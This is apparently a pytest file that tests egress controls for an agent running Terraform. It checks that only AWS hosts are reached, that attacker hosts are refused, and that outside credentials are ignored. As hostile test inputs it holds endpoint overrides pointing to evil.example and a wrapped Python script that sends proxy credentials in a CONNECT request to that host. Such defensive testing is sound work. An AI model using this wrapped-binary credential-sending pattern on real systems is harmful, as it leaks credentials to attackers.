"""The real provider through the proxy, and hostile configurations as if every rule had let them pass."""

from __future__ import annotations

import datetime
import socket
import ssl
import threading
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlsplit

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from adapters.terraform.worlds import BINARY, environment, service, target, wrapped, write
from company_network import company_network
from ops_agent.adapters.network import network
from ops_agent.adapters.terraform import egress
from ops_agent.adapters.terraform.processes import Patience
from ops_agent.adapters.terraform.terraform_cli import TerraformCli
from ops_agent.model.policy import Policy
from ops_agent.model.verification import CheckStatus

pytestmark = pytest.mark.terraform
UNREACHABLE = "Terraform tried to reach a place that is not allowed"


def certificate(folder: Path) -> tuple[Path, Path]:
    """Key and self-signed certificate of the service names that the tests use, in files that every user can read."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "test")])
    now = datetime.datetime.now(datetime.UTC)
    names = ["*.sa-east-1.amazonaws.com", "*.s3.sa-east-1.amazonaws.com", "*.amazonaws.com"]
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(one) for one in names]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    paths = folder / "key.pem", folder / "certificate.pem"
    for path, content in zip(paths, (private, made.public_bytes(serialization.Encoding.PEM)), strict=True):
        path.write_bytes(content)
        path.chmod(0o644)
    return paths


@pytest.fixture
def internet(open_directory, aws, monkeypatch) -> Iterator[SimpleNamespace]:
    """Every allowed name leads to the emulated AWS behind TLS; `names` are those that were asked for."""
    key, public = certificate(open_directory)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(public, key)
    behind = urlsplit(aws.endpoint)
    names: list[str] = []

    def carry(source, sink) -> None:
        with suppress(OSError):
            while chunk := source.recv(1 << 16):
                sink.sendall(chunk)
        for end in (source, sink):
            with suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)

    def serve(server) -> None:
        with suppress(OSError):
            while True:
                client = server.accept()[0]
                threading.Thread(target=unwrap, args=(client,), daemon=True).start()

    def unwrap(client) -> None:
        with suppress(OSError):
            inside = context.wrap_socket(client, server_side=True)
            there = socket.create_connection((behind.hostname, behind.port))
            threading.Thread(target=carry, args=(there, inside), daemon=True).start()
            carry(inside, there)

    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=serve, args=(server,), daemon=True).start()

        def lead(host, hosts, port):
            names.append(host)
            return socket.create_connection(server.getsockname())

        monkeypatch.setattr(egress, "dial", lead)
        yield SimpleNamespace(names=names, certificate=public)


@pytest.fixture
def online(internet, mirror) -> Iterator[TerraformCli]:
    """An engine without any emulator's overlay: it asks for AWS's own names."""
    with TerraformCli(
        policy=Policy(),
        binary="embedded",
        mirror=str(mirror),
        patience=Patience(deadline=60, grace=0.5, after_interrupt=1),
        extra_variables={"SSL_CERT_FILE": str(internet.certificate), "AWS_MAX_ATTEMPTS": "1"},
    ) as terraform:
        yield terraform


def planned(terraform, cloud, tree):
    with cloud.lease(environment("dev")) as lease, terraform.workspace(tree, target(), lease) as workspace:
        init = workspace.init()
        check, left = workspace.plan() if init.status is CheckStatus.PASSED else (None, None)
        return init, check, left.text if left else ""


def test_the_genuine_provider_plans_through_the_proxy_by_awss_own_names(online, cloud, internet, tmp_path):
    """init (state in S3), STS, and a data source, all over TLS that the proxy does not open; nothing goes elsewhere."""
    main = (
        'data "aws_caller_identity" "me" {}\noutput "account" {\n  value = data.aws_caller_identity.me.account_id\n}\n'
    )
    init, check, text = planned(online, cloud, write(tmp_path, service("online", main)))
    assert init.status is CheckStatus.PASSED, init.findings
    assert check.status is CheckStatus.PASSED, check.findings
    assert "125611408459" in text
    assert "tfstate-125611408459.s3.sa-east-1.amazonaws.com" in internet.names
    assert {name for name in internet.names if name.startswith("sts.")}
    assert all(name.endswith(".amazonaws.com") for name in internet.names)


@pytest.mark.proof
def test_the_genuine_provider_plans_through_a_companys_proxy_and_authority(
    aws, cloud, mirror, open_directory, tmp_path
):
    """The company's proxy opens TLS, as many do; init, STS and a data source trust its authority and nobody else's."""
    place = urlsplit(aws.endpoint)
    main = 'data "aws_caller_identity" "me" {}\n'
    with (
        company_network(open_directory, {"*": (place.hostname, place.port)}) as company,
        network({"HTTPS_PROXY": company.url}, company.authority.pem) as way,
        TerraformCli(
            policy=Policy(),
            binary="embedded",
            mirror=str(mirror),
            patience=Patience(deadline=60, grace=0.5, after_interrupt=1),
            extra_variables={"AWS_MAX_ATTEMPTS": "1"},
            network=way,
        ) as terraform,
    ):
        init, check, _ = planned(terraform, cloud, write(tmp_path, service("inside", main)))
        assert init.status is CheckStatus.PASSED, init.findings
        assert check.status is CheckStatus.PASSED, check.findings
        assert "tfstate-125611408459.s3.sa-east-1.amazonaws.com" in company.hosts and company.rejected == 0
        assert all(name.endswith(".amazonaws.com") for name in company.hosts)


@pytest.mark.parametrize(
    ("host", "said"),
    [
        ("https://evil.example", "evil.example:443, which is not AWS in sa-east-1"),
        ("http://evil.example", "evil.example:80, which is plain HTTP"),
    ],
)
def test_a_provider_whose_configuration_names_another_host_is_refused_and_reported(
    host, said, online, cloud, internet, tmp_path
):
    """`endpoints` with the source rules switched off. Nothing of the request leaves, not even the name's look-up."""
    files = service("elsewhere", 'data "aws_caller_identity" "me" {}\n')
    provider = f'  region = var.region\n  endpoints {{\n    sts = "{host}"\n  }}\n'
    files["infra/versions.tf"] = files["infra/versions.tf"].replace("  region = var.region\n", provider)
    init, check, text = planned(online, cloud, write(tmp_path, files))
    assert init.status is CheckStatus.PASSED, init.findings
    assert check.status is CheckStatus.FAILED
    assert text == ""
    assert f"`terraform plan` tried to reach {said}: refused." in [
        f.what for f in check.findings if f.title == UNREACHABLE
    ]
    assert "evil.example" not in internet.names


def test_a_backend_whose_configuration_names_another_host_is_refused_and_reported(online, cloud, internet, tmp_path):
    """The state's bucket is at an attacker's host; the request would have been signed with the credentials."""
    files = service("backend")
    files["infra/backend/dev/backend.hcl"] += 'endpoints = { s3 = "https://evil.example" }\nuse_path_style = true\n'
    init, _, _ = planned(online, cloud, write(tmp_path, files))
    assert init.status is CheckStatus.FAILED
    refused = [f.what for f in init.findings if f.title == UNREACHABLE]
    assert refused == ["`terraform init` tried to reach evil.example:443, which is not AWS in sa-east-1: refused."]
    assert "evil.example" not in internet.names


def reached(terraform, cloud, tree, buckets):
    """Places of the plan that were refused, when the base names `buckets`."""
    with (
        cloud.lease(environment("dev")) as lease,
        terraform.workspace(tree, target(), lease, buckets=buckets) as workspace,
    ):
        assert workspace.init().status is CheckStatus.PASSED
        check, _ = workspace.plan(with_text=False)
        return [f.what for f in check.findings if f.title == UNREACHABLE]


@pytest.mark.parametrize("bucket", ["a-strangers-bucket", "a.strangers.bucket"])
def test_a_plan_reaches_a_bucket_only_where_the_base_names_it(bucket, online, cloud, internet, tmp_path):
    """A data source that the change adds would send the bucket's name, and more, to the bucket's owner."""
    tree = write(tmp_path, service("lookup", f'data "aws_s3_bucket" "x" {{\n  bucket = "{bucket}"\n}}\n'))
    asked = "s3.sa-east-1.amazonaws.com" if "." in bucket else f"{bucket}.s3.sa-east-1.amazonaws.com"
    (refused,) = reached(online, cloud, tree, frozenset())
    assert refused.startswith(f"`terraform plan` tried to reach {asked}:443, which is a bucket that neither the base")
    assert asked not in internet.names
    assert reached(online, cloud, tree, frozenset({bucket})) == []
    assert asked in internet.names


ASK = """import base64, os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
login = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
with socket.create_connection(("127.0.0.1", proxy.port)) as s:
    s.sendall(f"CONNECT evil.example:443 HTTP/1.1\\r\\nProxy-Authorization: Basic {login}\\r\\n\\r\\n".encode())
    s.recv(100)
"""


@pytest.mark.skipif(not Path("/usr/bin/python3").exists(), reason="the hostile provider is a Python script")
def test_a_plan_that_succeeded_but_tried_to_reach_another_host_is_thrown_away(
    open_directory, mirror, aws, cloud, tmp_path
):
    """A provider that contacts another host and still makes a plan: the refusal is reported although the plan
    succeeded.
    """
    script = f"/usr/bin/python3 -I -S - <<'END' >/dev/null 2>&1\n{ASK}END\nexec $real"
    hostile = wrapped(open_directory, script, mirror / BINARY)
    with TerraformCli(
        policy=Policy(),
        binary="embedded",
        mirror=str(hostile),
        overlay=aws.overlay,
        backend_settings=aws.backend_overrides,
        patience=Patience(deadline=60, grace=60),
    ) as terraform:
        init, check, text = planned(terraform, cloud, write(tmp_path, service("quiet")))
    assert init.status is CheckStatus.PASSED, init.findings
    assert [f.what for f in check.findings if f.blocks] == [
        f"`terraform {command}` tried to reach evil.example:443, which is {why}: refused."
        for command, why in (("plan", "not AWS in sa-east-1"), ("show", "on no list for this command"))
    ]
    assert check.status is CheckStatus.FAILED
    assert text == ""


def test_keys_and_addresses_of_the_outside_are_ignored_and_only_the_brokers_credentials_sign(
    terraform, aws, cloud, tmp_path, monkeypatch
):
    """AWS_* of the job, a home directory with credentials, an instance's metadata service."""
    hits: list[str] = []

    class Metadata(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_error(404)

        do_PUT = do_GET  # noqa: N815  the base class names it so

        def log_message(self, *_) -> None:
            pass

    home = write(
        tmp_path / "home", {".aws/credentials": "[default]\naws_access_key_id = AKIAHOME\naws_secret_access_key = x\n"}
    )
    with ThreadingHTTPServer(("127.0.0.1", 0), Metadata) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        url = f"http://127.0.0.1:{server.server_port}"
        for name, value in {
            "AWS_ACCESS_KEY_ID": "AKIAOUTSIDE",
            "AWS_SECRET_ACCESS_KEY": "x",
            "AWS_SESSION_TOKEN": "x",
            "AWS_PROFILE": "default",
            "AWS_REGION": "us-east-1",
            "AWS_EC2_METADATA_DISABLED": "false",
            "AWS_EC2_METADATA_SERVICE_ENDPOINT": url,
            "AWS_METADATA_URL": url,
            "AWS_CONTAINER_CREDENTIALS_FULL_URI": f"{url}/credentials",
            "AWS_ENDPOINT_URL": url,
            "AWS_SHARED_CREDENTIALS_FILE": str(home / ".aws/credentials"),
            "HOME": str(home),
            "HTTPS_PROXY": url,
        }.items():
            monkeypatch.setenv(name, value)
        aws.forget_calls()
        init, check, _ = planned(terraform, cloud, write(tmp_path / "tree", service("ambient")))
        server.shutdown()
    assert init.status is check.status is CheckStatus.PASSED, (init.findings, check.findings)
    assert hits == []
    assert len({call.access_key for call in aws.calls if call.access_key}) == 1
    assert all(call.access_key.startswith("ASIA") for call in aws.calls if call.access_key)
    assert {call.region for call in aws.calls if call.access_key and call.service != "iam"} == {"sa-east-1"}
